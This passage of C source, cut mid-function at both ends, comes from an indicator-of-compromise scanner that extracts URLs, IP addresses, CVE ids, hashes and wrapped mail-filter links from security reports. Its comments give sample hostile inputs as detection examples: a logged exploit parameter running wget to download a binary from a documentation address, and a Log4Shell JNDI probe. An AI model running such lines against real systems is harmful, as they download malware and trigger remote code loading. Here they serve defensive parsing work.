		*len = j - k;
		return rest + k;
	}
	return NULL;
}

/*
 * The link a mail filter wrapped around the one a report names:
 * Microsoft's SafeLinks (...safelinks.protection.outlook.com/?url=
 * TARGET), Proofpoint's URL Defense (v2: /v2/url?u=TARGET with "-" for
 * "%" and "_" for "/", *proofpoint set; v3: /v3/__TARGET__;...) and
 * Google's redirect (/url?q=TARGET), host and rest[0..n) the wrapper's.
 * Its start, still encoded, *len its length; NULL when it wraps none.
 */
static const char *
wrapped_target(const char *host, const char *rest, size_t n, size_t *len,
    int *proofpoint)
{
	static const char safelinks[] = ".safelinks.protection.outlook.com";
	size_t hl = strlen(host);
	const char *v, *end;

	if (hl < 10 || strcmp(host + hl - 4, ".com") != 0)
		return NULL;	/* every wrapper's host: most URLs stop here */
	if (hl > sizeof(safelinks) - 1 && strcmp(host + hl -
	    (sizeof(safelinks) - 1), safelinks) == 0)
		return query_param(rest, n, "url", len);
	if (strcmp(host, "urldefense.proofpoint.com") == 0 && n > 7 &&
	    strncmp(rest, "/v2/url", 7) == 0) {
		*proofpoint = 1;
		return query_param(rest, n, "u", len);
	}
	if (strcmp(host, "urldefense.com") == 0 && n > 6 &&
	    strncmp(rest, "/v3/__", 6) == 0) {
		v = rest + 6;
		end = memmem(v, n - 6, "__", 2);
		*len = end ? (size_t)(end - v) : n - 6;
		return v;
	}
	if ((strcmp(host, "www.google.com") == 0 ||
	    strcmp(host, "google.com") == 0) && n > 4 &&
	    strncmp(rest, "/url", 4) == 0) {
		if ((v = query_param(rest, n, "q", len)) == NULL)
			v = query_param(rest, n, "url", len);
		return v;
	}
	return NULL;
}

/* The target v (len bytes; percent-decoded when decode is set, and
 * Proofpoint's v2 encoding when proofpoint is) of the wrapper t[a..b),
 * added to those read after the scan. */
static void
wrap_add(struct ioc_scanner *sc, const char *v, size_t len, int proofpoint,
    int decode, size_t a, size_t b)
{
	size_t k, start = sc->wrapped.len;
	int d1, d2;
	struct ioc ioc;

	for (k = 0; k < len; k++) {	/* percent-decoded */
		char c = v[k];

		if (proofpoint && c == '_')
			c = '/';
		else if (decode && (c == '%' || (proofpoint && c == '-')) &&
		    k + 2 < len && (d1 = hex_digit(v[k + 1])) >= 0 &&
		    (d2 = hex_digit(v[k + 2])) >= 0) {
			c = (char)(d1 * 16 + d2);
			k += 2;
		}
		buf_addch(&sc->wrapped, c ? c : ' ');
	}
	if (sc->nwraps == sc->wraps_alloc) {
		sc->wraps_alloc = sc->wraps_alloc ? 2 * sc->wraps_alloc : 8;
		sc->wraps = xreallocarray(sc->wraps, sc->wraps_alloc,
		    sizeof(*sc->wraps));
	}
	input_span(sc, a, b, &ioc);
	sc->wraps[sc->nwraps++] = (struct wrap){ start, ioc.offset,
	    ioc.length };
	buf_addch(&sc->wrapped, '\0');
}

/*
 * A link wrapped in another (wrapped_target) or named in its path or
 * query (nested_link): its target, decoded, waits to be scanned where
 * the wrapper t[a..b) was: the wrapper's host alone would be the
 * indicator otherwise.
 */
static void
note_wrapped(struct ioc_scanner *sc, const char *host, const char *rest,
    size_t n, size_t a, size_t b)
{
	size_t len = 0;
	const char *v;
	int proofpoint = 0, decode = 1;

	if ((v = wrapped_target(host, rest, n, &len, &proofpoint)) == NULL)
		v = nested_link(rest, n, &len, &decode);
	if (v == NULL || len < 8 || len > 8192)
		return;
	wrap_add(sc, v, len, proofpoint, decode, a, b);
}

/* A link written percent-encoded outside any URL, as a logged request's
 * parameter carries an exploit's download line
 * ("cmd=wget%20http%3A%2F%2F198.51.100.9%2Fbins%2Fx86"): the token
 * t[a..b), decoded, waits to be scanned where it was. Read of no other
 * token's bytes, but what it gives comes after the scan: not for the
 * memo. */
static void
note_encoded(struct ioc_scanner *sc, size_t a, size_t b)
{
	const char *t = sc->text.data, *p = t + a;

	while ((p = memchr(p, '%', (size_t)(t + b - p))) != NULL &&
	    (size_t)(t + b - p) >= 9) {
		if (strncasecmp(p, "%3a%2f%2f", 9) == 0) {
			if (sc->nested < 3 && b - a <= 8192) {
				sc->memo_outside = 1;
				wrap_add(sc, t + a, b - a, 0, 1, a, b);
			}
			return;
		}
		p++;
	}
}


/* The digits at t[k..e), min to max of them: where they end, or 0
 * when there are fewer or more. */
static size_t
digit_run(const struct ioc_scanner *sc, size_t k, size_t e, size_t min,
    size_t max)
{
	size_t d;

	for (d = k; d < e && d < k + max + 1 &&
	    (sc->cls[(unsigned char)sc->text.data[d]] & C_DIGIT); d++)
		;
	return d - k >= min && d - k <= max ? d : 0;
}

/* The CVE ids a URL's path or query names, t[p..e): an advisory's link
 * (https://nvd.nist.gov/vuln/detail/CVE-2024-3094) says which; or a
 * word of others' (a detection name, "Exploit.Win32.CVE-2017-0199.a",
 * ClamAV's "Win.Exploit.CVE_2017_11882-6428335-0", a repository's
 * "CVE-2021-44228-poc"): an id whole, not glued to a letter or a digit
 * ("xCVE-...", "CVE-2024-1236x"), its parts joined by '-' or '_'. */
static void
url_cves(struct ioc_scanner *sc, size_t p, size_t e)
{
	const char *t = sc->text.data;
	size_t k, y, n;

	for (k = p; k + 13 <= e; k++) {
		if ((t[k] | 0x20) != 'c' || (k > p &&
		    (sc->cls[(unsigned char)t[k - 1]] & C_ALNUM)) ||
		    strncasecmp(t + k, "cve", 3) != 0 ||
		    (t[k + 3] != '-' && t[k + 3] != '_') ||
		    (y = digit_run(sc, k + 4, e, 4, 4)) == 0 || y >= e ||
		    (t[y] != '-' && t[y] != '_') ||
		    (n = digit_run(sc, y + 1, e, 4, 7)) == 0)
			continue;
		if (n == e || !(sc->cls[(unsigned char)t[n]] & C_ALNUM))
			try_cve(sc, k, n);
		k = n - 1;
	}
}

/*
 * The digest a sample's page names in a URL's path or query, t[p..e):
 * a step of its own after a sample_word, or the value of a query's key
 * that is one: https://www.virustotal.com/gui/file/<sha256>/detection,
 * https://bazaar.abuse.ch/sample/<sha256>/, "sample.php?hash=<md5>". A
 * digest elsewhere in a path is a page's own (a phishing link's victim
 * id, an asset's version, "app.<md5>.js"), and so is a numbered page's
 * "files" (a pull request's, "/pull/12/files/<commit>"): none. The
 * query's values when values is set (a link without a scheme has its
 * values read as tokens: a query's "=" cuts one).
 */
static void
url_hashes(struct ioc_scanner *sc, size_t p, size_t e, int values)
{
	const char *t = sc->text.data;
	size_t k, s = p, ps = p, pe = p, pps = p;

	if (e - p < 32 + 5)	/* "/md5/" and an MD5's */
		return;
	for (k = p; k <= e; k++) {
		if (k < e && t[k] != '/' && t[k] != '?' && t[k] != '&' &&
		    t[k] != '=' && t[k] != '#')
			continue;
		/* the step or value t[s..k), the one before t[ps..pe)
		 * (none before the first) */
		if (digest_type(k - s) != IOC_NTYPES &&
		    (t[s - 1] == '/' || (values && t[s - 1] == '=')) &&
		    sample_word(t + ps, pe - ps) && !(pe - ps == 5 &&
		    ps > pps + 1 && digits_at(t + pps) ==
		    ps - 1 - pps))
			try_hash(sc, s, k);
		pps = ps;
		ps = s;
		pe = k;
		s = k + 1;
	}
}

/* One number of an IPv4 host as url_ipv4 reads it, at s (n bytes):
 * decimal, hex after "0x", octal after a "0"; -1 when it is none or is
 * 2^32 or more. */
static int64_t
url_ipv4_number(const char *s, size_t n)
{
	unsigned radix = 10, d;
	uint64_t v = 0;
	size_t k = 0;

	if (n == 0)
		return -1;
	if (n >= 2 && s[0] == '0' && (s[1] | 0x20) == 'x')
		radix = 16, k = 2;
	else if (n >= 2 && s[0] == '0')
		radix = 8, k = 1;
	for (; k < n; k++) {
		if (s[k] >= '0' && s[k] <= '9')
			d = (unsigned)(s[k] - '0');
		else if ((s[k] | 0x20) >= 'a' && (s[k] | 0x20) <= 'f')
			d = (unsigned)((s[k] | 0x20) - 'a' + 10);
		else
			return -1;
		if (d >= radix || (v = v * radix + d) > UINT32_MAX)
			return -1;
	}
	return (int64_t)v;
}

/*
 * A URL's host read as an IPv4 address the way the WHATWG URL standard
 * (and so a browser) reads it: up to four numbers between dots, each
 * decimal, hex ("0x7f") or octal ("010" is 8), the last filling the
 * bytes left ("2130706433" and "127.1" are 127.0.0.1). 1 with *addr
 * set; 0 when the host does not end in a number (it is a name); -1
 * when it does and is no address (a browser refuses the URL). The
 * address a phishing link goes to, not the one its digits seem to say.
 */
static int
url_ipv4(const char *s, size_t n, uint32_t *addr)
{
	int64_t part[4], v;
	size_t k, start, np = 0, last;

	for (last = n; last > 0 && s[last - 1] != '.'; last--)
		;
	if (last == n || (digits_at(s + last) != n - last &&
	    url_ipv4_number(s + last, n - last) < 0))
		return 0;	/* a name: its last label is no number */
	for (start = k = 0; k <= n; k++) {
		if (k < n && s[k] != '.')
			continue;
		if (np == 4 || (v = url_ipv4_number(s + start, k - start)) < 0)
			return -1;
		part[np++] = v;
		start = k + 1;
	}
	for (k = 0, v = 0; k + 1 < np; k++) {
		if (part[k] > 255)
			return -1;
		v = v << 8 | part[k];
	}
	if (part[np - 1] >= (int64_t)1 << (8 * (5 - np)))
		return -1;
	*addr = (uint32_t)(v << (8 * (5 - np)) | part[np - 1]);
	return 1;
}

/* The rest of a URL, t[k..e), added to url with "&amp;" made '&': a
 * link copied out of a page's source writes its query so, and no query
 * names a parameter "amp;". */
static void
url_rest(struct buf *url, const char *t, size_t k, size_t e)
{
	const char *p;

	while (k < e && (p = memchr(t + k, '&', e - k)) != NULL) {
		buf_add(url, t + k, (size_t)(p - t) + 1 - k);
		k = (size_t)(p - t) + 1;
		if (e - k >= 4 && strncasecmp(t + k, "amp;", 4) == 0)
			k += 4;
	}
	buf_add(url, t + k, e - k);
}

/* The URL at t[i..e), its scheme sl bytes: e, or 0 when it is none. */
static size_t
try_url(struct ioc_scanner *sc, size_t i, size_t sl, size_t e)
{
	const char *t = sc->text.data, *host;
	size_t h, he, hn, k;
	struct buf *url = &sc->url;
	int ip;
	enum ioc_type htype = IOC_DOMAIN;
	enum ioc_class hclass = IOC_PUBLIC;
	char v4text[IPADDR_V4_MAX];
	uint32_t v4;

	h = i + sl;
	for (k = h; k < e && t[k] != '/' && t[k] != '?' && t[k] != '#'; k++)
		if (t[k] == '@')
			h = k + 1;	/* user@host: the host is after */
	if (h < e && t[h] == '[') {
		for (he = h; he < e && t[he] != ']'; he++)
			;
		if (he == e || memchr(t + h, '/', he - h) ||
		    !try_ipv6(sc, h, he))
			return 0;	/* "[2001:db8::1/64]" is no host */
		host = sc->value.data;	/* try_ipv6 has emitted it */
		hclass = sc->last_class;
		he++;
		htype = IOC_IPV6;
	} else {
		/* a dash ends a host ("http://evil.com—see"), not a path's
		 * word ("/wiki/Russo–Japanese_War") */
		for (he = h; he < e && !(sc->cls[(unsigned char)t[he]] &
		    C_HOSTEND); he++)
			if ((unsigned char)t[he] == 0xe2 &&
			    wide_dash(t, e, he)) {
				e = he;
				break;
			}
		/* "http://evil.com./x": the root's dot is not the name's */
		hn = he > h + 1 && t[he - 1] == '.' ? he - 1 : he;
		if (he == h || (ip = url_ipv4(t + h, hn - h, &v4)) < 0) {
			return 0;
		} else if (ip) {
			format4(v4text, v4);
			host = v4text;
			htype = IOC_IPV4;
			hclass = class4(v4);
		} else if (domain_ok(sc, t + h, hn - h, 1)) {
			host = sc->value.data;
			hclass = class_dns(host, sc->value.len);
		} else {
			return 0;
		}
	}
	buf_reset(url);
	buf_grow(url, sl + 1);
	sc->fanged = (t[i] | 0x20) == 't';	/* "ttps://": "https://" */
	if (sc->fanged)
		url->data[url->len++] = 'h';
	for (k = 0; k < sl; k++)
		url->data[url->len++] = (char)(t[i + k] | 0x20);
	url->data[url->len] = '\0';
	buf_add(url, t + i + sl, h - i - sl);	/* user@ */
	if (htype == IOC_IPV6)
		buf_addch(url, '[');
	buf_addstr(url, host);
	if (htype == IOC_IPV6)
		buf_addch(url, ']');
	url_rest(url, t, he, e);
	emit(sc, IOC_URL, url->data, i, e, hclass);
	sc->fanged = 0;
	if (htype != IOC_IPV6)
		emit(sc, htype, host, h, he, hclass);
	/* a link wrapped twice (a partner's Proofpoint, then our SafeLinks)
	 * is unwrapped twice, three times at most */
	if (htype == IOC_DOMAIN && sc->nested < 3)
		note_wrapped(sc, host, t + he, e - he, i, e);
	url_cves(sc, he, e);
	url_hashes(sc, he, e, 1);
	return e;
}

/* Whether the token at t[a] is a MIME boundary's value (boundary=...,
 * boundary="..."): its hex is not a hash. */
static inline int
mime_boundary(const struct ioc_scanner *sc, size_t a)
{
	const char *t = sc->text.data;

	if (a >= 1 && t[a - 1] == '"')
		a--;
	return a >= 1 && t[a - 1] == '=' && word_before(sc, a - 1, "boundary");
}

/*
 * Whether what starts at t[a] is the value of a WHOIS record's field
 * that names the registrar, the registry or a network's contacts, not
 * the abuse: "Registrar URL: http://www.namecheap.com", "Registrar
 * Abuse Contact Email:", "abuse-mailbox:", ARIN's "OrgAbuseEmail:" (not
 * "e-mail:": a report's form names the abuser's so too).
 * Records pasted into a report gave them as its indicators. So did the
 * fields of an abuse report (X-ARF, RFC 5965's ARF) that name its
 * schema, its sender, its own id or the recipient of the spam, beside
 * its Source, Reported-Uri and Original-Mail-From. The key starts its
 * line (after blanks); a blank or more may follow its colon, then a
 * '<'.
 */
static int __attribute__((noinline))
whois_contact(const struct ioc_scanner *sc, size_t a)
{
	static const char *const keys[] = {
		"registrar whois server", "registrar url",
		"registrar abuse contact email",
		"url of the icann whois inaccuracy complaint form",
		"abuse-mailbox", "notify", "upd-to", "mnt-nfy",
		"irt-nfy", "ref-nfy", "orgabuseemail", "orgtechemail",
		"orgnocemail", "rabuseemail", "rtechemail", "rnocemail",
		"schema-url", "reported-from", "report-id",
		"original-rcpt-to", "removal-recipient", NULL,
	};
	const char *t = sc->text.data;
	size_t k = a, s, i, n;

	if (t[k - 1] == '<')
		k--;
	while (k > 0 && t[k - 1] == ' ')
		k--;
	if (k < 2 || t[k - 1] != ':')
		return 0;
	switch (t[k - 2] | 0x20) {	/* a key's last letter */
	case 'r': case 'l': case 'm': case 'x': case 'y': case 'o':
	case 'd': case 't':
		break;
	default:
		return 0;
	}
	k--;
	for (s = k; s > 0 && k - s <= 48 && t[s - 1] != '\n'; s--)
		;
	while (s < k && (t[s] == ' ' || t[s] == '\t'))
		s++;
	n = k - s;	/* 49 when the line starts further: no key's length */
	for (i = 0; keys[i]; i++)
		if (strlen(keys[i]) == n && strncasecmp(t + s, keys[i], n) == 0)
			return 1;
	return 0;
}

/*
 * Whether the token at t[a] is an OpenPGP key's fingerprint (40 hex
 * digits, or 64 for version 5 and 6 keys): after "key fingerprint",
 * "PGP fingerprint" (GnuPG's, OpenPGP's, or "fpr"), with ':' or '=' or
 * neither, or an "openpgp4fpr:" link. A partner's signature block gives
 * its own; no sample's hash. A certificate's fingerprint stays one (a
 * C2 server's is an indicator).
 */
static int __attribute__((noinline))
pgp_fingerprint(const struct ioc_scanner *sc, size_t a)
{
	static const char *const owners[] = {
		"key", "pgp", "gpg", "gnupg", "openpgp", NULL,
	};
	const char *t = sc->text.data;
	size_t k = a, i;

	while (k > 0 && (t[k - 1] == ' ' || t[k - 1] == '\t'))
		k--;
	if (k > 0 && (t[k - 1] == ':' || t[k - 1] == '='))
		k--;
	while (k > 0 && (t[k - 1] == ' ' || t[k - 1] == '\t'))
		k--;
	if (k == 0 || ((t[k - 1] | 0x20) != 'r' && (t[k - 1] | 0x20) != 't'))
		return 0;	/* most: "sha1 <hex>" */
	if (word_before(sc, k, "fpr") || word_before(sc, k, "openpgp4fpr"))
		return 1;
	if (!word_before(sc, k, "fingerprint"))
		return 0;
	for (k -= 11; k > 0 && (t[k - 1] == ' ' || t[k - 1] == '\t'); k--)
		;
	for (i = 0; owners[i]; i++)
		if (word_before(sc, k, owners[i]))
			return 1;
	return 0;
}

/* whois_contact, asked only where a byte or two says it may hold: a
 * blank or a '<' after a colon, or a value aligned after blanks. */
static inline int
contact_value(const struct ioc_scanner *sc, size_t a)
{
	const char *t = sc->text.data;

	return a >= 2 && (t[a - 1] == ' ' || t[a - 1] == '<') &&
	    (t[a - 2] == ':' || t[a - 2] == ' ') && whois_contact(sc, a);
}

/* Whether t[a] starts an IDS rule's page to read, a reference's URL
 * ("reference:url,www.example.com/blog" in a Suricata or Snort rule):
 * documentation, no indicator. */
static inline int
rule_url(const struct ioc_scanner *sc, size_t a)
{
	return a >= 14 && sc->text.data[a - 1] == ',' &&
	    memcmp(sc->text.data + a - 14, "reference:url,", 14) == 0;
}

/* Whether the token t[a..b), as token() trims it, is a digest's shape
 * whose value is a key's (pgp_fingerprint, for a fingerprint's length
 * only) or another thing's than a sample's digest (other_value):
 * "1c:e7:...:39?" after "Serial Number:\n" is a serial's pairs (once
 * remembered as nothing, the same pairs elsewhere went missing). */
static int __attribute__((noinline))
digest_key(const struct ioc_scanner *sc, size_t a, size_t b)
{
	const char *t = sc->text.data;

	while (b > a && ((sc->cls[(unsigned char)t[b - 1]] & C_RTRIM) ||
	    t[b - 1] == ':'))
		b--;
	while (a < b && (sc->cls[(unsigned char)t[a]] & C_LTRIM))
		a++;
	return digest_shape(b - a) && (((b - a == 40 || b - a == 64) &&
	    pgp_fingerprint(sc, a)) || other_value(sc, a));
}

/* Whether what the token t[a..b) gives is a key's or another thing's
 * than a sample's digest (digest_key; no digest is shorter than 32
 * bytes, most tokens are), a WHOIS record's contact or an IDS rule's
 * reference: the memo's question, asked of each token it may
 * remember. */
static inline int
key_context(const struct ioc_scanner *sc, size_t a, size_t b)
{
	return (b - a >= 32 && digest_key(sc, a, b)) ||
	    contact_value(sc, a) || rule_url(sc, a);
}

/* Where what follows a label and a colon starts ("ip:192.0.2.1",
 * "md5:...", "mailto:abuse@example.com", "Re:evil.example", a header's
 * "Reply-To:x@evil.example"): a word (a letter, then letters, digits,
 * '-' and '_'), then one colon and more than it. 0
 * when t[a..b) is not that ("10:30" is not), may be an IPv6 address
 * ("dead:beef::1", "fe80:0:0:0::1": all hex, more colons), or is an AS
 * number ("ASN:4134": try_asn's). */
static size_t
word_colon(const struct ioc_scanner *sc, size_t a, size_t b)
{
	const char *t = sc->text.data;
	size_t k = a, colons = 0;
	int hex = 1;

	if ((t[a] | 0x20) < 'a' || (t[a] | 0x20) > 'z')
		return 0;
	for (; k < b && k - a <= 32 && ((sc->cls[(unsigned char)t[k]] &
	    C_ALNUM) || t[k] == '-' || t[k] == '_'); k++)
		hex &= (sc->cls[(unsigned char)t[k]] & C_HEX) != 0;
	if (k + 2 > b || t[k] != ':' || t[k + 1] == ':' ||
	    t[k + 1] == '/' || (t[a] == 'A' && t[a + 1] == 'S' &&
	    (k - a == 2 || (k - a == 3 && t[a + 2] == 'N'))))
		return 0;
	if (hex) {
		for (size_t j = k; j < b; j++)
			colons += t[j] == ':';
		if (colons >= 2)
			return 0;
	}
	return k + 1;
}

/*
 * '=' at t[j] inside an address's local part, not between a key and its
 * value: VERP ("list-bounces+alice=example.com@lists.example.org") and
 * SRS ("SRS0=HHH=TT=example.net=bob@forwarder.example.com") write one
 * there, and cut at it they would give an address nobody has.
 */
static int
local_equals(const struct ioc_scanner *sc, size_t a, size_t j)
{
	const char *t = sc->text.data;
	size_t k;

	/* a log's "src=" is neither: no '+', no "SRS0" or "SRS1" */
	if (!memchr(t + a, '+', j - a) && !(j - a >= 4 &&
	    (t[a] | 0x20) == 's' && (t[a + 1] | 0x20) == 'r' &&
	    (t[a + 2] | 0x20) == 's' && (t[a + 3] == '0' || t[a + 3] == '1') &&
	    (j - a == 4 || t[a + 4] == '=')))
		return 0;
	for (k = j + 1; k - a <= 64 && t[k] != '\0' &&
	    ((sc->cls[(unsigned char)t[k]] & C_ALNUM) ||
	    strchr("._%+-=", t[k])); k++)
		;
	return t[k] == '@';
}

/* "http//evil.com", "hxxps//evil.com", "ftp//": a scheme whose colon a
 * defang (or a slip) left out. Where its host starts, 0 when t[a..b)
 * does not start so. */
static size_t
colonless_scheme(const char *t, size_t a, size_t b)
{
	size_t k = a;

	if (k + 4 <= b && (t[k] | 0x20) == 'h' && (t[k + 3] | 0x20) == 'p' &&
	    (t[k + 1] | 0x20) == (t[k + 2] | 0x20) &&
	    ((t[k + 1] | 0x20) == 't' || (t[k + 1] | 0x20) == 'x')) {
		k += 4;
		if (k < b && (t[k] | 0x20) == 's')
			k++;
	} else if (k + 3 <= b && (t[k] | 0x20) == 'f' &&
	    ((t[k + 1] | 0x20) == 't' || (t[k + 1] | 0x20) == 'x') &&
	    (t[k + 2] | 0x20) == 'p') {
		k += 3;
	} else {
		return 0;
	}
	return k + 2 < b && t[k] == '/' && t[k + 1] == '/' ? k + 2 : 0;
}

/*
 * Past "scheme://" and any "user@" of a URL whose scheme is not one
 * try_url takes (ldap, rmi, smb, ssh, hkp, socks5, stratum+tcp, ...; a
 * YARA or Sigma rule's pattern, "https?://"; one letter, what a defang
 * as "ht[tp]s://" leaves): its host is an indicator
 * all the same, as in a Log4Shell probe's
 * "${jndi:ldap://192.0.2.1:1389/a}".
 * 0 when the token does not start so.
 */
static size_t
other_scheme(const struct ioc_scanner *sc, size_t a, size_t b)
{
	const char *t = sc->text.data;
	size_t k = a, end, at = 0;

	if ((scheme_len(t + a, b - a) && (t[a] | 0x20) != 't') ||
	    !((t[a] | 0x20) >= 'a' && (t[a] | 0x20) <= 'z'))
		return 0;	/* what try_url did not take is no URL
				 * (but "h=\nttp://": soft_break_h) */
	/* digits and '+' after the first letter too: "socks5://", a
	 * mining pool's "stratum+tcp://", "git+ssh://"; not RFC 3986's
	 * '-' and '.', an app's ("android-app://com.example.app/",
	 * "chrome-extension://<id>/"), whose host is no network's */
	while (k < b && k - a <= 16 && (ascii_alnum((unsigned char)t[k]) ||
	    t[k] == '+'))
		k++;
	if (k - a >= 2 && k < b && t[k] == '?')
		k++;	/* a pattern's "https?://evil\.com" (refanged) */
	if (k + 3 > b || t[k] != ':' || t[k + 1] != '/' ||
	    t[k + 2] != '/')
		return 0;
	k += 3;
	for (end = k; end < b && t[end] != '/' && t[end] != '?' &&
	    t[end] != '#'; end++)
		if (t[end] == '@')
			at = end + 1;	/* user:password@ */
	return at ? at : k;
}

/* Whether a hash ends at t[p] first on its line (indented or quoted
 * too), as sha256sum and md5sum write their lines: the hash, two blanks
 * (or " *", binary mode), a file's name (Payload.app: .app is a real
 * suffix). */
static int __attribute__((noinline))	/* seldom asked */
sum_before(const struct ioc_scanner *sc, size_t p)
{
	const char *t = sc->text.data;
	size_t k = p;

	while (k > 0 && (sc->cls[(unsigned char)t[k - 1]] & C_HEX))
		k--;
	switch (p - k) {
	case 32: case 40: case 56: case 64: case 96: case 128:
		break;	/* MD5, SHA-1, -224, -256, -384, -512 */
	default:
		return 0;
	}
	while (k > 0 && (t[k - 1] == ' ' || t[k - 1] == '\t' ||
	    t[k - 1] == '>'))
		k--;	/* indented, or quoted in a reply */
	return k == 0 || t[k - 1] == '\n';
}

/* Whether a checksum's name ends one blank before t[p]: a line as BSD's
 * md5 and "shasum --tag" write it, "MD5 (Payload.app) = d41d8...",
 * names a file in the parentheses (.app is a real suffix). */
static int __attribute__((noinline))	/* seldom asked */
checksum_before(const char *t, size_t p)
{
	static const char *const algs[] = {
		"md5", "sha", "rmd", "blake", NULL,
	};
	size_t k = p, i;

	if (k < 4 || t[k - 1] != ' ')
		return 0;
	for (k--; k > 0 && (ascii_alnum((unsigned char)t[k - 1]) ||
	    t[k - 1] == '-'); k--)
		;
	for (i = 0; algs[i]; i++)
		if (strncasecmp(t + k, algs[i], strlen(algs[i])) == 0)
			return 1;
	return 0;
}

/* What follows the '(' at t[p] is a stack trace's place in the source:
 * Java's "(NioEventLoop.java:569)", "(Native Method)", "(Unknown
 * Source)", a script's "(app.js:10:5)"; t[k] ends the word after the
 * '(' (a file's name's first part). A host and its port are none
 * ("evil.run(mirror.com:8080)"). */
static int
source_place(const struct ioc_scanner *sc, size_t p, size_t k)
{
	static const char *const exts[] = {
		"java", "kt", "scala", "groovy", "js", "mjs", "cjs", "ts",
		"cs", "py", "rb", "go", "php", NULL,
	};
	const char *t = sc->text.data;
	size_t e;

	if (strncmp(t + p + 1, "Native Method)", 14) == 0 ||
	    strncmp(t + p + 1, "Unknown Source)", 15) == 0)
		return 1;
	if (k == p + 1 || t[k] != '.')
		return 0;
	for (e = ++k; ascii_letter(t[k]) && k - e < 7; k++)
		;
	if (k == e || t[k] != ':' || !(sc->cls[(unsigned char)t[k + 1]] &
	    C_DIGIT) || !listed(t + e, k - e, exts))
		return 0;
	for (k++; sc->cls[(unsigned char)t[k]] & C_DIGIT; k++)
		;
	return t[k] == ')' || t[k] == ':';
}

/* What follows the '(' at t[p], after the name t[a..p), is a call's
 * arguments: none, a string, a list, an object, a template, a call
 * ("(main())"), an arrow function's parameters ("((x) => x)"); a word
 * alone when the name's object is one programs name ("window.open(url)",
 * code_object) or a ';' or a method's '.' follows ("fs.read(fd);",
 * "df.show(5).x"); a stack trace's place in the source (source_place:
 * "io.netty.channel.nio.NioEventLoop.run(NioEventLoop.java:569)"); not
 * a word alone otherwise ("evil.com(mirror)"). */
static int __attribute__((noinline))
call_args(const struct ioc_scanner *sc, size_t a, size_t p)
{
	const char *t = sc->text.data, *dot;
	size_t k, n = sc->text.len;

	if (memchr(")\"'[{`", t[p + 1], 6))
		return 1;
	for (k = p + 1; k < n && ((sc->cls[(unsigned char)t[k]] &
	    C_ALNUM) || t[k] == '_'); k++)
		;
	if (source_place(sc, p, k))
		return 1;
	if (t[k] == '(' || (t[k] == ')' && k + 1 < n && (t[k + 1] == ';' ||
	    (t[k + 1] == '.' && k + 2 < n && ((t[k + 2] | 0x20) >= 'a' &&
	    (t[k + 2] | 0x20) <= 'z')))))
		return 1;
	dot = memchr(t + a, '.', p - a);
	return t[k] == ')' && dot != NULL && memchr(dot + 1, '.',
	    p - (size_t)(dot + 1 - t)) == NULL && code_object(t + a, dot + 1);
}

/*
 * Whether t[a..b) is where code names a thing, not where a report names
 * a host: a template's variable ("{{ person.name }}", "${site.link}"),
 * a call ("console.info('x')", "window.close()", "subprocess.run(['sh'])",
 * "asyncio.run(main())", "array.map({...})"), a comparison
 * ("window.top != self"), a style sheet's selector ("a.black {").
 * Phishing kits' pages, scripts and styles quoted in a report are full
 * of them, and .name, .info, .top, .link, .black are real suffixes. A
 * host in prose is not written so ("evil.com(x)", "evil.com(5
 * hosts)", "{evil.com}" and "(evil.com)" still are hosts). One blank
 * may stand between the name and the braces or the operator.
 */
static inline int
code_context(const struct ioc_scanner *sc, size_t a, size_t b)
{
	const char *t = sc->text.data;
	size_t n = sc->text.len, k = a;

	if (k > 0 && t[k - 1] == ' ')	/* one blank at most, either side */
		k--;
	if (k >= 2 && t[k - 1] == '{' && (t[k - 2] == '{' || t[k - 2] == '$'))
		return 1;
	if (b + 1 >= n)
		return 0;
	if (t[b] == '(')
		return call_args(sc, a, b);
	k = b + (t[b] == ' ');
	return t[k] == '{' || (k + 1 < n && ((t[k] == '}' &&
	    t[k + 1] == '}') || ((t[k] == '=' || t[k] == '!') &&
	    t[k + 1] == '=')));
}

/*
 * Whether t[a..b) is a file a checksum's line names: BSD's md5 and
 * "shasum --tag" write "MD5 (Payload.app) = d41d8...", sha256sum and
 * md5sum "<hash>  Payload.app" (.app is a real suffix). Asked of every
 * token, as code_context is (memo_context): a byte or two each.
 */
static inline int
checksum_context(const struct ioc_scanner *sc, size_t a, size_t b)
{
	const char *t = sc->text.data;

	if (t[b] == ')')
		return a >= 2 && t[a - 1] == '(' && b + 2 < sc->text.len &&
		    t[b + 1] == ' ' && t[b + 2] == '=' &&
		    checksum_before(t, a - 1);
	return a >= 34 && t[a - 2] == ' ' && (t[a - 1] == ' ' ||
	    t[a - 1] == '*') && sum_before(sc, a - 2);
}

/* Most tokens are words: no ".:@", no hash's length, not "CVE-" or
 * "AS". token() takes nothing from them. One that starts with a mark
 * token() trims is looked at without its marks: "#CVE-2024-3094",
 * "_AS4134_", "/AS4837" (asn_slash's) are no words. */
static inline int
plain_word(const struct ioc_scanner *sc, size_t a, size_t b,
    unsigned marks)
{
	const char *t = sc->text.data;

	if (marks)
		return 0;
	if (sc->cls[(unsigned char)t[a]] & C_LTRIM) {	/* few words */
		while (a < b && (sc->cls[(unsigned char)t[a]] & C_LTRIM))
			a++;
		while (b > a && (sc->cls[(unsigned char)t[b - 1]] & C_RTRIM))
			b--;
		if (b - a < 2)
			return 1;
	}
	return t[a] != 'C' && t[a] != 'c' && t[a] != 'A' && b - a != 32 &&
	    b - a != 40 && b - a != 64 && b - a != 128;
}

/*
 * Hosts between slashes: whether each part from the slash at t[h] to b
 * is a name (checked as a token is) or an IPv4 address; with emitting,
 * each is emitted. "evil.com/login.php" is a path, and so are
 * "evil.com/report.zip" and "198.51.100.7/index.html".
 */
static int
slash_hosts(struct ioc_scanner *sc, size_t h, size_t b, int emitting)
{
	const char *t = sc->text.data;
	size_t s, e;
	uint32_t addr;
	char v[32];

	for (s = h + 1; s < b; s = e + 1) {
		for (e = s; e < b && t[e] != '/'; e++)
			;
		if ((sc->cls[(unsigned char)t[s]] & C_DIGIT) &&
		    parse_ipv4(t + s, e - s, &addr) == e - s) {
			if (emitting) {
				format4(v, addr);
				emit(sc, IOC_IPV4, v, s, e, class4(addr));
			}
		} else if (domain_ok(sc, t + s, e - s, defanged(sc, s, e))) {
			if (emitting)
				emit(sc, IOC_DOMAIN, sc->value.data, s, e,
				    IOC_PUBLIC);
		} else {
			return 0;
		}
	}
	return 1;
}

/*
 * Names between slashes, "evil.com/evil.net/evil.org" at t[a..b), the
 * first of them t[a..h) (sc->value, checked), or a name and an address,
 * "update.evil.com/203.0.113.5" (a C2's name and where it pointed):
 * each emitted, when every one is a host (slash_hosts); else 0, and
 * nothing is.
 */
static int
slash_names(struct ioc_scanner *sc, size_t a, size_t h, size_t b)
{
	const char *t = sc->text.data;

	if (!slash_hosts(sc, h, b, 0) ||
